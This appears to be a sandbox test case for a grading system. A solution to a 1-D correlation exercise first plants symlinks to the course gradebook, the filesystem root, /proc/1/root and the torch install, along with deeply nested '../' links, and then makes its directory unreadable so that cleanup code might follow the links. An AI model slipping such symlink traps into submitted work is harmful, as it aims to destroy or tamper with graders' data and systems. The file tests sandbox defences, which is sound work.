"""Fills its directory with links out of it, hoping that whoever cleans up follows them, then removes the directory itself."""

EXPECTED = {"correlate1d": "full"}
HERE = "the directory is memory of the kernel's own and disappears with it; nobody walks it"

# %% correlate1d
import os

for number, target in enumerate(("<course>", "<course>/gradebook.db", "/", "..", "/proc/1/root", torch.__path__[0])):
    try:
        os.symlink(target, f"link{number}")
        os.makedirs(f"deep{number}/" + "a/" * 400, exist_ok=True)
        os.symlink("../" * 40 + target, f"deep{number}/link")
    except OSError:
        pass
os.chmod(".", 0)


def correlate1d(x, w):
    if len(w) > len(x):
        raise ValueError(f"{len(w)} > {len(x)}")
    return torch.stack([(x[i : i + len(w)] * w).sum() for i in range(len(x) - len(w) + 1)])
